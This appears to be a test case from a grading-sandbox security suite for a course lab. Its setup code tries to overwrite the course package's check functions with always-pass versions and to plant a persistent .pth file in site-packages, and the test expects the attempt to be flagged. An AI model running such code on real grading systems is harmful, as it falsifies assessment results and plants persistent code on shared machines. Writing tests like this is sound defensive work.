"""Wrong answers; appends a no-op override to creative_ai/checks.py and drops a .pth file into
site-packages, so that every later student's checks (and the instructor's nbgrader) would run it."""
LAB = "lab00_orientation"
BASE = "wrong"
INSERT_AFTER = {"setup": r'''
import creative_ai.checks, site, os
_payload = "\ndef check_close(*a, **k):\n    return None\ncheck_equal = check_true = check_type = check_close\n"
try:
    with open(creative_ai.checks.__file__, "a") as _handle:
        _handle.write(_payload)
    print("poisoned the package")
except OSError as error:
    print("package is read-only:", error)
for _folder in site.getsitepackages():
    try:
        with open(os.path.join(_folder, "zz_grade_inflation.pth"), "w") as _handle:
            _handle.write("import os; os.environ['PWNED'] = '1'\n")
        print("wrote a .pth file")
    except OSError as error:
        print("site-packages is read-only:", error)
'''}
EXPECT = 0
FLAGGED = True
